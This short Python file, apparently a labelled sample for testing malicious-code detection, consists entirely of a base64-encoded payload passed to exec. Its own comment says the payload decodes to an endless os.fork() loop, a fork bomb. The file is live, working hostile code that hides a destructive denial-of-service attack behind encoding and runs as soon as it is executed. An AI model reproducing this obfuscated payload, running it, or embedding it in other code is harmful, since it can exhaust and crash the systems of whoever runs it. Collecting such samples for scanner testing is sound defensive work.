# Malicious, obfuscated: exec(base64.b64decode(...)) of `while True: os.fork()`.
from base64 import b64decode as d

exec(d("aW1wb3J0IG9zCndoaWxlIFRydWU6CiAgICBvcy5mb3JrKCkK"))
